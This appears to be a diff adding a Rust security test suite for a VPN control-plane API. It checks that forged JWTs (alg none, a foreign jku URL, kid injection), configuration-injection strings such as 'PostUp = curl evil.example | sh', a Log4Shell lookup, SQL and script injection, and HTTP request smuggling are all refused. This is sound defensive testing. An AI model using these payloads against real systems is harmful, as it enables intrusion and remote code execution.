@@ -1,0 +1,391 @@
+//! What somebody sends who wants to break in, or to break things: forged tokens, texts that mean something elsewhere, JSON at
+//! its edges, connections that do not end.
+
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use base64::Engine as _;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use cvault_control_plane::auth::tokens::{self, ClientToken};
+use cvault_control_plane::http::router;
+use cvault_control_plane::http::serve::{Limits, serve};
+use cvault_control_plane::keys::TokenKey;
+use cvault_types::{TenantId, UserId};
+use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpListener, TcpStream};
+use tokio_util::sync::CancellationToken;
+use uuid::Uuid;
+
+use crate::platform::{PASSWORD, Platform};
+use crate::scene::{Person, with_server};
+
+fn part(json: &Value) -> String {
+    URL_SAFE_NO_PAD.encode(json.to_string())
+}
+
+/// Forty tokens that a server might take if it were careless; the first part of each pair says what is wrong.
+fn forgeries(platform: &Platform, genuine: &str) -> Vec<(String, String)> {
+    let (key, issuer) = (&platform.app.secrets.token_key, platform.app.config.public_url.as_str());
+    let now = platform.app.clock.now();
+    let parts: Vec<&str> = genuine.split('.').collect();
+    let claims: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
+    let mut made: Vec<(String, String)> = Vec::new();
+    let mut add = |what: &str, token: String| made.push((what.to_owned(), token));
+
+    for alg in ["none", "None", "NONE", "HS256", "HS512", "RS256", "PS256", "ES256", "EdDSA ", "ed25519", ""] {
+        let header = part(&json!({"alg": alg, "typ": "JWT", "kid": key.kid()}));
+        add(&format!("alg {alg:?}"), format!("{header}.{}.{}", parts[1], parts[2]));
+    }
+    let unsigned = part(&json!({"alg": "none", "kid": key.kid()}));
+    add("no signature", format!("{unsigned}.{}.", parts[1]));
+    add("no signature, no dot", format!("{unsigned}.{}", parts[1]));
+    for kid in [json!("other"), json!(""), json!(null), json!(1), json!("../../dev/null"), json!("' or 1=1 --")] {
+        let header = part(&json!({"alg": "EdDSA", "typ": "JWT", "kid": kid}));
+        add(&format!("kid {kid}"), format!("{header}.{}.{}", parts[1], parts[2]));
+    }
+    let with_jwk = json!({"alg": "EdDSA", "kid": key.kid(), "jwk": {"kty": "OKP", "crv": "Ed25519", "x": "AAAA"}});
+    add("a key of its own", format!("{}.{}.{}", part(&with_jwk), parts[1], parts[2]));
+    let with_jku = json!({"alg": "EdDSA", "kid": key.kid(), "jku": "https://evil.example/jwks.json"});
+    add("an address of keys", format!("{}.{}.{}", part(&with_jku), parts[1], parts[2]));
+    for (name, value) in [
+        ("tid", json!(TenantId::from_uuid(Uuid::now_v7()))),
+        ("sub", json!(UserId::from_uuid(Uuid::now_v7()))),
+        ("aud", json!("admin")),
+        ("aud", json!(["client", "admin"])),
+        ("exp", json!(i64::MAX)),
+        ("exp", json!(1e300)),
+    ] {
+        let mut changed = claims.clone();
+        changed[name] = value.clone();
+        add(&format!("{name} changed to {value}"), format!("{}.{}.{}", parts[0], part(&changed), parts[2]));
+    }
+    for name in ["iss", "aud", "sub", "exp"] {
+        let mut without = claims.clone();
+        without.as_object_mut().unwrap().remove(name);
+        add(&format!("without {name}"), format!("{}.{}.{}", parts[0], part(&without), parts[2]));
+    }
+    let who = ClientToken { tenant: TenantId::from_uuid(Uuid::now_v7()), user: UserId::from_uuid(Uuid::now_v7()) };
+    let family = Uuid::now_v7();
+    let stranger = TokenKey::from_seed(&[9; 32]);
+    add("signed by another key", tokens::mint_client(&stranger, issuer, who, family, now).expose().to_owned());
+    add("of another issuer", tokens::mint_client(key, "https://evil.example", who, family, now).expose().to_owned());
+    add("of no issuer", tokens::mint_client(key, "", who, family, now).expose().to_owned());
+    let long_ago = now - time::Duration::days(400);
+    add("expired", tokens::mint_client(key, issuer, who, family, long_ago).expose().to_owned());
+    add("truncated signature", genuine[..genuine.len() - 2].to_owned());
+    add("signature of zeros", format!("{}.{}.{}", parts[0], parts[1], URL_SAFE_NO_PAD.encode([0; 64])));
+    add("padded", format!("{genuine}=="));
+    add("a fourth part", format!("{genuine}.AAAA"));
+    add("dots", "..".to_owned());
+    add("huge", format!("{}.{}.{}", parts[0], "A".repeat(60_000), parts[2]));
+    made
+}
+
+#[tokio::test]
+async fn forty_forged_tokens_open_nothing() {
+    let platform = Platform::start().await;
+    let tenant = platform.tenant().await;
+    let user = Person::of(&platform, &tenant, "a@example.com").await;
+    let forged = forgeries(&platform, &user.token);
+    assert!(forged.len() >= 40, "{}", forged.len());
+    for (what, token) in &forged {
+        for staff in [false, true] {
+            // from an address each, so that the throttle of guesses says nothing here
+            let path = if staff { "/admin/tenants" } else { "/api/v1/devices" };
+            let call = platform.call("GET", path).header("authorization", &format!("Bearer {token}"));
+            let answer = if staff { call } else { call.header("x-api-key", &tenant.key) }.send().await;
+            let code = if what == "expired" && !staff { "TOKEN_EXPIRED" } else { "INVALID_TOKEN" };
+            answer.is_problem(&format!("{what}, staff: {staff}"), 401, code);
+            assert!(!answer.text.contains(&token[..token.len().min(40)]) || token.len() < 10, "{what} is repeated");
+        }
+    }
+    let swapped = platform.call("GET", "/admin/tenants").header("authorization", &format!("Bearer {}", user.token));
+    swapped.refused(401, "INVALID_TOKEN").await;
+    let swapped = platform.call("GET", "/api/v1/devices").header("x-api-key", &tenant.key);
+    swapped.header("authorization", &format!("Bearer {}", platform.admin_token())).refused(401, "INVALID_TOKEN").await;
+    for header in ["Bearer", "Bearer ", "bearer  ", "Basic YTpi", "Bearer a b", &format!("Bearer{}", user.token)] {
+        let call = platform.call("GET", "/api/v1/devices").header("x-api-key", &tenant.key);
+        call.header("authorization", header).refused(401, "INVALID_TOKEN").await;
+    }
+    assert_eq!(user.call(&platform, "GET", "/api/v1/devices").send().await.status, 200, "the genuine one goes on");
+}
+
+/// Lines that a configuration may have.
+const LINES: [&str; 12] = [
+    "[Interface]",
+    "PrivateKey = ",
+    "Address = ",
+    "DNS = ",
+    "MTU = ",
+    "[Peer]",
+    "PublicKey = ",
+    "PresharedKey = ",
+    "AllowedIPs = ",
+    "Endpoint = ",
+    "PersistentKeepalive = ",
+    "#",
+];
+
+#[tokio::test]
+async fn no_text_becomes_a_line_of_a_configuration() {
+    let platform = Platform::start().await;
+    with_server(&platform).await;
+    let tenant = platform.tenant().await;
+    let user = Person::of(&platform, &tenant, "a@example.com").await;
+    let device = user.device(&platform, "honest").await;
+    let honest = device["config"].as_str().unwrap().lines().count();
+    let texts = [
+        "x\nPostUp = curl evil.example | sh",
+        "x\r\nPostUp=reboot",
+        "x\rPostUp = reboot",
+        "\u{0}",
+        "x\u{0}y",
+        "\u{1b}[2J\u{1b}]0;owned\u{7}",
+        "\u{85}PostUp = reboot",
+        "\u{2028}PostUp = reboot",
+        "\u{202e}gnp.exe",
+        "\u{200b}",
+        "\u{feff}x",
+        "\u{e0041}",
+        "\u{ffff}",
+        "",
+        "   ",
+        "\t",
+        &"x".repeat(256),
+        &"x".repeat(10_000),
+        &"\u{1f600}".repeat(256),
+        "%0aPostUp=reboot",
+        "${jndi:ldap://x}",
+        "'; drop table cvault.devices; --",
+        "<script>alert(1)</script>",
+        "{{7*7}}",
+        "[Peer]",
+        "# comment",
+        "PostUp = reboot",
+        "\u{1f600}",
+        "n\u{303}",
+    ];
+    let mut taken = 0;
+    for text in texts {
+        for field in ["device_name", "platform", "public_key", "server_region"] {
+            let mut body = json!({"device_name": "d"});
+            body[field] = json!(text);
+            let answer = user.call(&platform, "POST", "/api/v1/devices").json(&body).send().await;
+            let what = format!("{field} {text:?}");
+            if answer.status == 201 {
+                taken += 1;
+                let config = answer.text("config");
+                assert_eq!(config.lines().count(), honest, "{what}: {config}");
+                for line in config.lines().filter(|line| !line.is_empty()) {
+                    assert!(LINES.iter().any(|known| line.starts_with(known)), "{what}: {line}");
+                }
+                let path = format!("/api/v1/devices/{}", answer.text("device_id"));
+                assert_eq!(user.call(&platform, "DELETE", &path).send().await.status, 204, "{what}");
+            } else {
+                answer.is_problem(&what, 422, "VALIDATION_FAILED");
+                assert_eq!(answer.faults()[0].split(' ').next(), Some(format!("/{field}").as_str()), "{what}");
+                assert!(!answer.text.contains("PostUp") && !answer.text.contains('\u{1b}'), "{what} is repeated");
+            }
+        }
+        let body = json!({"name": text});
+        let answer = platform.admin("POST", "/admin/tenants").json(&body).send().await;
+        assert!([201, 422].contains(&answer.status.as_u16()), "{text:?}: {}", answer.text);
+    }
+    assert!(taken >= 10, "harmless texts are names: {taken}");
+}
+
+#[tokio::test]
+async fn json_at_its_edges_is_refused_by_kind_or_kept_exactly() {
+    let platform = Platform::start().await;
+    let send = |text: String| platform.admin("POST", "/admin/tenants").raw("application/json", text);
+    let deep = |depth: usize| {
+        format!("{{\"name\":\"a\",\"whitelabel_config\":{}1{}}}", "{\"a\":".repeat(depth), "}".repeat(depth))
+    };
+    send(deep(1_000)).refused(400, "MALFORMED_REQUEST").await;
+    let nested = send(format!("{{\"name\":{}{}}}", "[".repeat(1_000), "]".repeat(1_000)));
+    assert_eq!(nested.refused(422, "VALIDATION_FAILED").await.faults(), ["/name invalid_type"]);
+    assert_eq!(send(deep(60)).send().await.status, 201);
+    for (number, status) in [
+        ("9007199254740993", 201),
+        ("-9223372036854775808", 201),
+        ("18446744073709551615", 201),
+        ("1e400", 400),
+        ("-1e400", 400),
+        ("01", 400),
+        ("+1", 400),
+        (".5", 400),
+        ("0x10", 400),
+        ("NaN", 400),
+        ("Infinity", 400),
+        ("1_000", 400),
+    ] {
+        let answer = send(format!("{{\"name\":\"a\",\"whitelabel_config\":{{\"n\":{number}}}}}")).send().await;
+        assert_eq!(answer.status, status, "{number}: {}", answer.text);
+        assert!(status != 201 || answer.text.contains(&format!("\"n\":{number}")), "{number}: {}", answer.text);
+    }
+    for number in ["9007199254740993", "-9007199254740993", "4294967296", "1e10", "1.0"] {
+        let answer =
+            send(format!("{{\"name\":\"a\",\"user_limit\":{number}}}")).refused(422, "VALIDATION_FAILED").await;
+        assert_eq!(answer.faults().len(), 1, "{number}");
+    }
+    let big = send("{\"name\":\"a\",\"bandwidth_limit_gb\":9223372036854775807}".to_owned());
+    assert_eq!(big.refused(422, "VALIDATION_FAILED").await.faults(), ["/bandwidth_limit_gb out_of_range"]);
+    for body in [
+        r#"{"name":"a","name":"b"}"#,
+        r#"{"name":"a","whitelabel_config":{},"whitelabel_config":{}}"#,
+        r#"{"name":"a","na\u006de":"b"}"#,
+    ] {
+        let answer = send(body.to_owned()).refused(422, "VALIDATION_FAILED").await;
+        assert!(answer.faults()[0].ends_with(" duplicate"), "{body}");
+    }
+    for body in
+        [r#"{"name":"\ud800"}"#, r#"{"name":"a\"#, "{\"name\":\"a\n\"}", r#"{'name':'a'}"#, r#"{"name":"a",}"#, "{}//"]
+    {
+        send(body.to_owned()).refused(400, "MALFORMED_REQUEST").await;
+    }
+}
+
+#[tokio::test]
+async fn addresses_and_passwords_at_and_past_their_bounds() {
+    let platform = Platform::start().await;
+    let tenant = platform.tenant().await;
+    let label = "d".repeat(62);
+    let domain = format!("{label}.{label}.{label}");
+    let (local64, local65) = ("l".repeat(64), "l".repeat(65));
+    let at = |local: &str| format!("{local}@{domain}");
+    let register = |email: &str, password: &str| {
+        platform.post("/api/v1/auth/register", &json!({"email": email, "password": password})).backend(&tenant)
+    };
+    assert_eq!(at(&local64).len(), 253);
+    assert_eq!(register(&at(&local64), &"p".repeat(8)).send().await.status, 201);
+    let long = "\u{1f600}".repeat(128);
+    assert_eq!(register("long@example.com", &long).send().await.status, 201, "128 characters, 512 bytes");
+    let almost = format!("{}\u{1f601}", "\u{1f600}".repeat(127));
+    let login = |password: &str| {
+        platform
+            .post("/api/v1/auth/login", &json!({"email": "long@example.com", "password": password}))
+            .backend(&tenant)
+    };
+    login(&almost).refused(401, "INVALID_CREDENTIALS").await;
+    assert_eq!(login(&long).send().await.status, 200, "no byte of it is left out");
+    for email in [
+        at(&local65).as_str(),
+        "a@b",
+        "@b.example",
+        "a@",
+        "a b@c.example",
+        "a@b..example",
+        "a@-b.example",
+        "a@b.example\n",
+        "a\u{0}@b.example",
+        "a@b.example\r\nBcc: x@y.example",
+        "\u{430}@b.example",
+        "a@b.example,c@d.example",
+        "<a@b.example>",
+        &"a".repeat(10_000),
+    ] {
+        let answer = register(email, PASSWORD).refused(422, "VALIDATION_FAILED").await;
+        assert_eq!(answer.faults(), ["/email invalid_format"], "{email:?}");
+    }
+    for password in ["", "1234567", "\u{1f600}\u{1f600}"] {
+        assert_eq!(register("x@y.example", password).send().await.faults(), ["/password too_short"]);
+    }
+    for password in ["x".repeat(129), "x".repeat(500_000)] {
+        assert_eq!(register("x@y.example", &password).send().await.faults(), ["/password too_long"]);
+    }
+}
+
+#[tokio::test]
+async fn headers_and_queries_that_are_no_text_are_refused() {
+    let platform = Platform::start().await;
+    let tenant = platform.tenant().await;
+    let device = || platform.post("/api/v1/auth/register", &json!({"email": "a@b.example", "password": PASSWORD}));
+    for key in ["k\u{e9}", "\u{1f600}", "a\tb"] {
+        let answer = device().backend(&tenant).header("idempotency-key", key).send().await;
+        assert!(answer.status == 422 || answer.status == 201, "{key:?}: {}", answer.text);
+    }
+    let strange = platform.call("GET", "/api/v1/usage").header("x-api-key", "\u{e9}").header("x-api-secret", "\u{e9}");
+    strange.refused(401, "INVALID_API_KEY").await;
+    for query in
+        ["?from=%ff", "?from=%00", "?%ff=1", "?from=2026-13-01", "?from=9999-12-31T23:59:59Z&to=0000-01-01", "?from=-1"]
+    {
+        let call = platform.call("GET", &format!("/api/v1/usage{query}")).backend(&tenant);
+        call.refused(422, "VALIDATION_FAILED").await;
+    }
+    let twice = platform.call("GET", "/api/v1/usage").backend(&tenant).header("x-api-key", &tenant.key);
+    twice.refused(401, "INVALID_API_KEY").await;
+}
+
+/// The platform behind a socket; ends with the returned token.
+async fn listening(platform: &Platform) -> (SocketAddr, CancellationToken) {
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let address = listener.local_addr().unwrap();
+    let shutdown = CancellationToken::new();
+    let router = router::api(platform.app.clone());
+    tokio::spawn(serve(listener, router, Limits::behind(Vec::new()), shutdown.clone()));
+    (address, shutdown)
+}
+
+async fn read_to_end(stream: &mut TcpStream) -> String {
+    let mut bytes = Vec::new();
+    let read = tokio::time::timeout(Duration::from_secs(40), stream.read_to_end(&mut bytes));
+    // a reset is an end too
+    let _ = read.await.expect("the connection ends");
+    String::from_utf8_lossy(&bytes).into_owned()
+}
+
+#[tokio::test]
+async fn half_closed_and_slow_connections_get_an_answer_or_an_end() {
+    let platform = Platform::start().await;
+    let (address, shutdown) = listening(&platform).await;
+    let open = async |text: &str| {
+        let mut stream = TcpStream::connect(address).await.unwrap();
+        stream.write_all(text.as_bytes()).await.unwrap();
+        stream
+    };
+    let mut whole = open("GET /health HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n").await;
+    let answer = read_to_end(&mut whole).await;
+    assert!(answer.starts_with("HTTP/1.1 200 "), "{answer}");
+
+    // half a head, half a body, and then the writing half closed
+    for text in [
+        "GET /health HTTP/1.1\r\nhos",
+        "POST /api/v1/auth/login HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n{\"em",
+    ] {
+        let mut stream = open(text).await;
+        stream.shutdown().await.unwrap();
+        let answer = read_to_end(&mut stream).await;
+        assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 4"), "{answer}");
+    }
+    // a body that never comes: with credentials, because without them nobody waits for it
+    let tenant = platform.tenant().await;
+    let head = format!(
+        "POST /api/v1/auth/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nx-api-key: {}\r\nx-api-secret: {}\r\n\
+         content-length: 100\r\nconnection: close\r\n\r\n{{",
+        tenant.key, tenant.secret
+    );
+    let mut stream = open(&head).await;
+    let answer = read_to_end(&mut stream).await;
+    assert!(answer.starts_with("HTTP/1.1 408 ") && answer.contains("REQUEST_TIMEOUT"), "{answer}");
+
+    // two requests smuggled into one: two lengths, a length and chunks
+    for headers in [
+        "content-length: 2\r\ncontent-length: 30\r\n",
+        "content-length: 2\r\ntransfer-encoding: chunked\r\n",
+        "transfer-encoding: chunked, identity\r\n",
+        "content-length: -1\r\n",
+        "content-length: 99999999999999999999\r\n",
+    ] {
+        let text = format!(
+            "POST /api/v1/auth/login HTTP/1.1\r\nhost: x\r\n{headers}connection: close\r\n\r\n{{}}\r\n0\r\n\r\n"
+        );
+        let mut stream = open(&text).await;
+        let answer = read_to_end(&mut stream).await;
+        assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 4"), "{headers}: {answer}");
+        assert!(answer.matches("HTTP/1.1").count() <= 1, "{headers}: {answer}");
+    }
+    let mut healthy = open("GET /health HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n").await;
+    assert!(read_to_end(&mut healthy).await.starts_with("HTTP/1.1 200 "), "the platform goes on");
+    shutdown.cancel();
+}
